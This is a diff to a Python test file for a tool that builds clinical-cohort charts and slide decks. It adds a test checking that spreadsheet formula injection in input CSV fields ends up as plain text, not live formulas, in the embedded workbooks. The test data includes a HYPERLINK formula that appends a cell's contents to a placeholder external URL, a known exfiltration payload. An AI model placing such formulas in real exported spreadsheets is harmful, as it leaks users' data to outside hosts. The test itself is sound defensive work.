@@ -11,12 +11,13 @@ from datetime import date
 
 import numpy as np
 import pytest
-from cohorts import from_sample
+from cohorts import SAMPLES, from_sample
 from lxml import etree
 from openpyxl import load_workbook
 from pptx import Presentation
 from pptx.util import Emu
 
+from necc import read_cohort
 from necc.project import Exhibit, Project
 from necc.report import make_report, ready
 from necc.report.slides import slides
@@ -177,6 +178,27 @@ def test_the_workbook_of_a_chart_holds_the_same_numbers(deck):
     held = {c.value for row in book.active.iter_rows() for c in row if isinstance(c.value, (int, float))}
     drawn = {v for s in chart.plots[0].series for point in points(s) for v in point}
     assert sorted(drawn) == pytest.approx(sorted({float(v) for v in held}), rel=1e-14)  # 16 digits of a sheet
+
+
+def test_levels_of_a_file_are_no_formulas_and_break_nothing(tmp_path):
+    lines = (SAMPLES / "reconstructed_cohort.csv").read_text().splitlines()
+    arms = ['"=HYPERLINK(""http://a.example""&A1)"', "+1+1"]
+    (path := tmp_path / "arms.csv").write_text(
+        "\n".join(f"{line},{arms[i % 2] if i else 'arm'}" for i, line in enumerate(lines))
+    )
+    recipes = (
+        "figures.survival_curves(kaplan_meier(cohort, 'PRS', by='arm'))",
+        "figures.forest(univariate(cohort, 'PRS', covariates=('arm',)))",
+        "figures.response_rates(response_rates(cohort, 'best', by='arm'))",
+    )
+    shown = make_report(Project(title="A\x01&<b>", exhibits=(Exhibit("=1+1\x01", shows=recipes),)), read_cohort(path))
+    made = slides(shown)
+    assert not shown.problems and not made.problems
+    with zipfile.ZipFile(io.BytesIO(made.content)) as archive:
+        books = [load_workbook(io.BytesIO(archive.read(n))) for n in archive.namelist() if n.endswith(".xlsx")]
+    cells = [cell for book in books for sheet in book for row in sheet for cell in row if cell.value is not None]
+    assert len(books) == 3 and any("HYPERLINK" in str(cell.value) for cell in cells)
+    assert not [cell.value for cell in cells if cell.data_type == "f"]
 
 
 def test_the_numbers_at_risk_stand_under_their_ticks(deck, shown):
